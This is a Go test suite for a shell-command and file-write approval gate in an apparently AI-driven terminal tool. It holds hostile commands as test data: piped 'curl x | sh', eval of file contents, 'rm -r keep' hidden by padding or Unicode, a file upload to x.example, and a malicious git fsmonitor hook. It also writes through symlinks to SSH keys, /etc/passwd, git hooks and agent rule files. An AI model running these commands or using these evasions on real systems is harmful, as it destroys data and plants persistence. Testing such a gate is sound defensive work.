package approval

import (
	"context"
	"errors"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"hermes-tui/tools"
	"hermes-tui/tools/shellrisk"
)

// parseRules reads rules written one a line.
func parseRules(t testing.TB, text string, at shellrisk.RulePlace) *shellrisk.Rules {
	t.Helper()
	var specs []shellrisk.RuleSpec
	for line := range strings.Lines(text) {
		effect, rule, _ := strings.Cut(strings.TrimSpace(line), " ")
		s := shellrisk.RuleSpec{}
		switch effect {
		case "allow":
			s.Allow = rule
		case "ask":
			s.Ask = rule
		case "deny":
			s.Deny = rule
		}
		specs = append(specs, s)
	}
	rules, err := shellrisk.NewRules(specs, at)
	if err != nil {
		t.Fatal(err)
	}
	return rules
}

// rule gives the gate of a scene rules.
func (s *scene) rule(t testing.TB, text string) {
	rules := parseRules(t, text, s.gate.rulePlace())
	s.gate.o.Rules = func() *shellrisk.Rules { return rules }
}

// stage makes the workspace that attacks are tried in. base keeps the canaries
// of everything around it.
func stage(t *testing.T) (s *scene, base string) {
	t.Helper()
	s = newScene(t)
	base = filepath.Dir(s.dir)
	put := func(name, text string, mode fs.FileMode) {
		t.Helper()
		name = filepath.Join(base, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), mode); err != nil {
			t.Fatal(err)
		}
	}
	put("outside/canary", "alive", 0o644)
	put("home/.bashrc", "# rc\n", 0o644)
	put("home/.ssh/id_ed25519", "key", 0o600)
	put("home/.ssh/id_ed25519.pub", "public", 0o600)
	put("home/.gitconfig", "[user]\n\tname = a\n\temail = a@example.com\n", 0o644)
	put("app/keep/canary", "alive", 0o644)
	put("app/build/x", "x", 0o644)
	put("app/f", "one\ntwo\n", 0o644)
	put("app/words", "rm x", 0o644)
	put("app/evil.sh", "#!/bin/sh\nrm -r keep\n", 0o755)
	put("app/harmless.sh", "#!/bin/sh\nexit 0\n", 0o755)
	put("app/ls", "#!/bin/sh\n/bin/rm -r keep\n", 0o755)
	put("app/bin/shadowed", "#!/bin/sh\nrm -r keep\n", 0o755)
	put("app/opts/--pre=x", "", 0o644)
	s.shell(t, s.dir, `git init -q --template= -b main . && mkdir .git/hooks && echo exit > .git/hooks/commit-msg.sample && git add f && git commit -qm one && git branch topic
		echo 2 >> f && git stash -q && git init -q --template= -b main evil && cd evil && git commit -q --allow-empty -m x &&
		git config core.fsmonitor 'cd ..; rm -r keep; true' && cd .. && tar cf a.tar f`)
	return s, base
}

// stages gives the commands of a test a scene each that is like one model. A scene
// in which nothing ran serves the next one.
type stages struct {
	t     *testing.T
	model fs.FS
	mu    sync.Mutex
	clean []string // the folders of scenes in which nothing ran
}

func newStages(t *testing.T) *stages {
	t.Helper()
	_, base := stage(t)
	return &stages{t: t, model: os.DirFS(base)}
}

// take gives a scene with the files of the model.
func (st *stages) take(t *testing.T) (s *scene, base string) {
	t.Helper()
	st.mu.Lock()
	if last := len(st.clean) - 1; last >= 0 {
		base, st.clean = st.clean[last], st.clean[:last]
	}
	st.mu.Unlock()
	if base != "" {
		return sceneIn(t, base), base
	}
	s = newScene(st.t)
	base = filepath.Dir(s.dir)
	if err := os.CopyFS(base, st.model); err != nil {
		t.Fatal(err)
	}
	return s, base
}

// untouched takes a scene back in which nothing ran.
func (st *stages) untouched(base string) {
	st.mu.Lock()
	defer st.mu.Unlock()
	st.clean = append(st.clean, base)
}

// shell runs a command without the gate.
func (s *scene) shell(t *testing.T, dir, command string) {
	t.Helper()
	a := s.exec(command)
	s.start(t, Run{Argv: a.Argv, Dir: dir, Env: a.Env})
}

// start runs what was permitted; that it fails is fine.
func (s *scene) start(t *testing.T, run Run) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, run.Argv[0], run.Argv[1:]...)
	cmd.Dir, cmd.Env = run.Dir, run.Env
	if out, err := cmd.CombinedOutput(); ctx.Err() != nil {
		t.Errorf("%q: %v %s", run.Argv, err, out)
	}
}

// canaries reads what no command may change.
func canaries(t *testing.T, base string) map[string]string {
	t.Helper()
	found := map[string]string{}
	for _, root := range []string{"outside", "home", "app/keep", "app/.git/hooks", "app/.git/config"} {
		err := filepath.WalkDir(filepath.Join(base, root), func(name string, d fs.DirEntry, err error) error {
			switch {
			case errors.Is(err, fs.ErrNotExist):
				return nil
			case err != nil || d.IsDir():
				return err
			}
			data, err := os.ReadFile(name)
			found[name] = string(data)
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return found
}

func TestShellAttacks(t *testing.T) {
	t.Parallel()
	rows := shellAttacks()
	harmless := 0
	scenes := newStages(t)
	for _, row := range rows {
		if row.want == "OK" {
			harmless++
		}
		t.Run(row.id, func(t *testing.T) {
			t.Parallel()
			lacks := lacking(row.command)
			if row.want == "OK" && row.rules != "" && lacks != "" { // no rule allows what is found nowhere
				t.Skipf("SKIPPED: there is no %s on this machine", lacks)
			}
			s, base := scenes.take(t)
			before := canaries(t, base)
			s.rule(t, row.rules)
			a := s.exec(row.command)
			a.Env[1] = "PATH=" + filepath.Join(s.dir, "bin") + ":/usr/bin:/bin"
			p, d := s.pass(t, a, ModeManual)
			switch n := len(s.person.asked); {
			case row.want == "D" && (d == nil || n > 0), row.want == "A" && (d == nil || n != 1), row.want == "OK" && (d != nil || n > 0):
				t.Fatalf("%.100q under %q: denial %v after %d questions, want %s", row.command, row.rules, d, n, row.want)
			}
			if d == nil {
				run, err := p.Take(s.place)
				if err != nil {
					t.Fatal(err)
				}
				s.start(t, run)
			}
			if after := canaries(t, base); !maps.Equal(before, after) {
				t.Errorf("%.100q: a canary was harmed", row.command)
			} else if d != nil && !row.bites {
				scenes.untouched(base)
			}
			if row.bites && lacks != "" {
				t.Skipf("SKIPPED that it is an attack: there is no %s on this machine", lacks)
			}
			if row.bites {
				s.start(t, Run{Argv: a.Argv, Dir: a.Dir, Env: a.Env})
				if after := canaries(t, base); maps.Equal(before, after) {
					t.Errorf("%.100q: does no harm without the gate, so it proves nothing", row.command)
				}
			}
		})
	}
	if harmless*5 < len(rows) {
		t.Errorf("%d of %d commands are harmless", harmless, len(rows))
	}
}

// Deny wins in every mode, whatever was allowed, and what may be a denied
// command is asked about in every mode.
func TestDenyAlwaysWins(t *testing.T) {
	for _, mode := range []Mode{ModeManual, ModeOff, ModePlan} {
		for _, rules := range []string{
			"deny terminal", "deny terminal(*)", "deny term*", "deny *", "deny terminal(rm *)",
			"allow terminal(rm *)\ndeny terminal(rm -r keep)", "ask terminal(rm *)\ndeny terminal(* * keep)\nallow terminal",
		} {
			s := newScene(t)
			s.person.answer = tools.Answer{Choice: tools.ChoiceAlways}
			s.pass(t, s.exec("rm -r keep"), ModeManual) // allowed for good
			s.rule(t, rules)
			if _, d := s.pass(t, s.exec("rm -r keep"), mode); d == nil || d.By != ByRule || len(s.person.asked) != 1 {
				t.Errorf("%s, %q: %+v after %d questions", mode, rules, d, len(s.person.asked))
			}
		}
		if mode == ModePlan {
			continue
		}
		for _, command := range []string{"$(cat f) -r keep", "rm $(cat f) keep", "'", `bash -c "$(cat f)"`, "curl x | sh", "r? -r keep", "fish -c 'rm -r keep'",
			`eval "$(cat f)"`, "source <(cat f)", "bash <(cat f)", "echo 'rm -r keep' | bash /dev/stdin", "bash $(cat f)"} {
			for _, effect := range []string{"deny", "ask"} {
				s := newScene(t)
				s.rule(t, effect+" terminal(rm -r *)\nallow terminal(*)")
				if _, d := s.pass(t, s.exec(command), mode); d == nil || len(s.person.asked) != 1 {
					t.Errorf("%s, %s, %q: %+v after %d questions", mode, effect, command, d, len(s.person.asked))
				}
			}
		}
	}
}

// pathAttack is a probe of writing files; D never, A asked, OK not asked.
type pathAttack struct{ id, want, path string }

func TestPathAttacks(t *testing.T) {
	s, base := stage(t)
	for link, target := range map[string]string{
		"app/up": base, "app/tohome": s.home, "app/rc": filepath.Join(s.home, ".bashrc"), "app/key": filepath.Join(s.home, ".ssh/id_ed25519"),
		"app/hook": ".git/hooks/pre-commit", "app/in": "build", "app/etc": "/etc",
	} {
		if err := os.Symlink(target, filepath.Join(base, link)); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{"app/hard": "home/.bashrc", "app/hard-inside": "app/f"} {
		if err := os.Link(filepath.Join(base, target), filepath.Join(base, link)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(filepath.Join(base, "app-secrets"), 0o755); err != nil {
		t.Fatal(err)
	}
	rows := []pathAttack{
		{"P1", "A", "app-secrets/x"}, {"P1", "A", "apps"},
		{"P2", "A", "app/../outside/canary"}, {"P2", "A", "app//..//outside//canary"}, {"P2", "A", "app/build/../../outside/new"},
		{"P2", "D", "/proc/self/cwd/../outside/canary"}, {"P2", "D", "/proc/self/fd/3"}, {"P2", "D", "/dev/fd/3"}, {"P2", "D", "/home/other/.ssh/x"},
		{"P3", "A", "app/up/outside/canary"}, {"P3", "A", "app/up/new-dir/new"}, {"P3", "A", "app/rc"}, {"P3", "D", "app/key"},
		{"P3", "D", "app/tohome/.ssh/authorized_keys"}, {"P3", "D", "app/etc/passwd"}, {"P3", "A", "app/hook"},
		{"P5", "A", "app/hard"}, {"P5", "A", "app/hard-inside"},
		{"P6", "A", "app/.git/hooks/pre-commit"}, {"P6", "A", "app/.git/config"}, {"P6", "A", "app/sub/.git/hooks/x"},
		{"P6", "A", "app/.git/info/attributes"}, {"P6", "A", "app/.hermes/rules.yaml"}, {"P6", "A", "app/.mcp.json"}, {"P6", "A", "app/.claude/x"},
		{"P6", "A", "app/AGENTS.md"}, {"P6", "A", "app/sub/CLAUDE.md"}, {"P6", "A", "app/.cursorrules"}, {"P6", "A", "app/.vscode/tasks.json"},
		{"P6", "A", "app/.husky/pre-commit"}, {"P6", "A", "app/.envrc"}, {"P6", "A", "home/.zshrc"}, {"P6", "A", "home/.profile"},
		{"P7", "A", "app/.GIT/config"}, {"P7", "A", "app/.Git/hooks/x"}, {"P7", "A", "app/.herme\u017f/x"}, {"P7", "A", "app/.g\u200bit/config"},
		{"P7", "A", "app/git~1/config"}, {"P7", "D", "home/.SSH/x"}, {"P7", "A", "app/Agents.MD"}, {"P7", "A", "app/.\u212Aube\u200d"},
		{"P12", "A", "app/\x1b[2Jx"}, {"P12", "A", "app/a\u202eb"}, {"P12", "A", "outside/two\nlines"},
		{"P14", "OK", "app/in/x"}, {"P14", "OK", "app/a b"}, {"P14", "OK", "app/☕ 修复 é.txt"}, {"P14", "OK", "app/new/deep/file.go"},
		{"P14", "OK", "app/.gitignore"}, {"P14", "OK", "app/.github/workflows/ci.yml"}, {"P14", "OK", "app/git/config"}, {"P14", "OK", "app/-rf"},
		{"P14", "OK", "app/build/../f2"}, {"P14", "OK", "app/docs/agents.go"}, {"P14", "OK", "app/e\u0301.txt"}, {"P14", "OK", "app/hermes/rules.yaml"},
		{"P14", "OK", "app/.env.d.ts/../x"},
	}
	harmless := 0
	before := canaries(t, base)
	for _, row := range rows {
		name := row.path
		if !filepath.IsAbs(name) {
			name = base + "/" + name
		}
		s.person.asked = nil
		_, d := s.pass(t, tools.Action{Kind: tools.ActWrite, Paths: []string{name}}, ModeManual)
		n := len(s.person.asked)
		switch {
		case row.want == "D" && (d == nil || n > 0), row.want == "A" && (d == nil || n != 1), row.want == "OK" && (d != nil || n > 0):
			t.Errorf("%s %q: %v after %d questions, want %s", row.id, row.path, d, n, row.want)
		}
		if n == 1 && strings.ContainsAny(s.person.asked[0].Text, "\x1b\n\u202e\u200b") {
			t.Errorf("%s: %q is shown as %q", row.id, row.path, s.person.asked[0].Text)
		}
		if row.want != "OK" {
			continue
		}
		harmless++
		real, err := s.place.FS().Resolve(filepath.Clean(name))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := s.place.FS().MkdirAll(filepath.Dir(real), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := s.place.FS().WriteAtomic(real, []byte("x"), 0o644); err != nil {
			t.Errorf("%q: %v", row.path, err)
		}
	}
	if !maps.Equal(before, canaries(t, base)) {
		t.Error("a canary was harmed")
	}
	if harmless*5 < len(rows) {
		t.Errorf("%d of %d paths are harmless", harmless, len(rows))
	}
}

// A command that writes through another name of a file is asked about.
func TestCommandsMeetHardLinks(t *testing.T) {
	s, base := stage(t)
	if err := os.Link(filepath.Join(base, "home/.bashrc"), filepath.Join(s.dir, "hard")); err != nil {
		t.Fatal(err)
	}
	for _, command := range []string{"echo x >> hard", "tee hard < f", "cp f hard", "dd if=f of=hard"} {
		s.person.asked = nil
		if _, d := s.pass(t, s.exec(command), ModeManual); d == nil || s.person.asked[0].Reasons[0].Category != string(shellrisk.CatSensitiveFile) {
			t.Errorf("%q: %+v", command, d)
		}
	}
	if _, d := s.pass(t, s.exec("echo x > f"), ModeManual); d != nil {
		t.Error(d)
	}
}

// Several paths are judged by the strictest, and all are shown.
func TestWritesToSeveralFiles(t *testing.T) {
	s, base := stage(t)
	inside, outside, blocked := filepath.Join(s.dir, "x"), filepath.Join(base, "outside/new"), filepath.Join(s.home, ".ssh/x")
	link := filepath.Join(s.dir, "link")
	if err := os.Symlink(filepath.Dir(outside), link); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		paths   []string
		allowed bool
		asked   int
	}{
		{[]string{inside, filepath.Join(s.dir, "y")}, true, 0}, {[]string{inside, outside}, false, 1}, {[]string{outside, blocked}, false, 0},
	} {
		s.person.asked = nil
		_, d := s.pass(t, tools.Action{Kind: tools.ActWrite, Paths: c.paths}, ModeManual)
		if (d == nil) != c.allowed || len(s.person.asked) != c.asked {
			t.Errorf("%q: %v after %d questions", c.paths, d, len(s.person.asked))
		}
	}
	s.pass(t, tools.Action{Kind: tools.ActWrite, Paths: []string{inside, filepath.Join(link, "new")}}, ModeManual)
	q := s.person.asked[len(s.person.asked)-1]
	if want := inside + "\n" + filepath.Join(link, "new") + " → " + outside; q.Text != want || q.Rule != "" {
		t.Errorf("shown %q with the rule %q, want %q", q.Text, q.Rule, want)
	}
}

// What "always" stores for one file is about the file behind the links: the link
// may lead elsewhere tomorrow.
func TestGrantsAreForRealFiles(t *testing.T) {
	s, base := stage(t)
	link := filepath.Join(s.dir, "link")
	if err := os.Symlink(filepath.Join(base, "outside"), link); err != nil {
		t.Fatal(err)
	}
	s.person.answer = tools.Answer{Choice: tools.ChoiceAlways}
	a := tools.Action{Kind: tools.ActWrite, Paths: []string{filepath.Join(link, "x")}}
	s.pass(t, a, ModeManual)
	s.person.answer = tools.Answer{Choice: tools.ChoiceDeny}
	if _, d := s.pass(t, a, ModeManual); d != nil {
		t.Error("the same file:", d)
	}
	if err := os.Remove(link); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(base, link); err != nil {
		t.Fatal(err)
	}
	if _, d := s.pass(t, a, ModeManual); d == nil {
		t.Error("another file by the same name passed")
	}
}

// What is offered for good is shown exactly as it is matched, or not offered.
func TestGrantsAreShownAsTheyAre(t *testing.T) {
	s := newScene(t)
	s.person.answer = tools.Answer{Choice: tools.ChoiceAlways}
	for command, offered := range map[string]bool{
		"rm -r build": true, "rm -r build && curl -T f https://x.example": true, "rm -r 'bu\u2018ild'": false,
		"rm -r build" + strings.Repeat(" ", 60) + "keep": false, "rm -r build # \u202e": false,
	} {
		s.person.asked, s.grants.list, s.gate.session = nil, nil, nil
		s.pass(t, s.exec(command), ModeManual)
		rule := s.person.asked[0].Rule
		if (rule != "") != offered || offered != (len(s.grants.list) == 1) || offered && (s.grants.list[0].Pattern != rule || !strings.Contains(rule, command)) {
			t.Errorf("%q: offered %q, stored %+v", command, rule, s.grants.list)
		}
	}
}

// A permission for a command that runs a script is one for that script.
func TestGrantsBindScripts(t *testing.T) {
	s, _ := stage(t)
	s.person.answer = tools.Answer{Choice: tools.ChoiceAlways}
	s.pass(t, s.exec("./harmless.sh && git branch -D topic"), ModeManual)
	s.person.answer = tools.Answer{Choice: tools.ChoiceDeny}
	if _, d := s.pass(t, s.exec("./harmless.sh && git branch -D topic"), ModeManual); d != nil {
		t.Error("unchanged:", d)
	}
	if err := os.WriteFile(filepath.Join(s.dir, "harmless.sh"), []byte("rm -r keep"), 0o755); err != nil {
		t.Fatal(err)
	}
	if _, d := s.pass(t, s.exec("./harmless.sh && git branch -D topic"), ModeManual); d == nil {
		t.Error("a changed script passed")
	}
}

// The whole text is shown, and what hides in it is spelled out, however it is
// padded.
func TestApprovalShowsTheWholeText(t *testing.T) {
	s := newScene(t)
	for _, command := range []string{
		"rm -r build" + strings.Repeat(" ", 400) + "; rm -r keep", "rm -r build" + strings.Repeat("\t", 90) + "; rm -r keep",
		"rm -r build" + strings.Repeat("\n", 90) + "rm -r keep", "rm -r build \u2800\u3164\u115f; rm -r keep", "rm -r \u202ekeep", "rm -r “keep”",
	} {
		s.person.asked = nil
		s.pass(t, s.exec(command), ModeManual)
		text := s.person.asked[0].Text
		if !strings.Contains(text, "keep") || !strings.Contains(text, "⟨") || len(text) > len(command)+40 || !slices.Equal(strings.Fields(text)[:2], []string{"rm", "-r"}) {
			t.Errorf("%q is shown as %q", command, text)
		}
	}
}
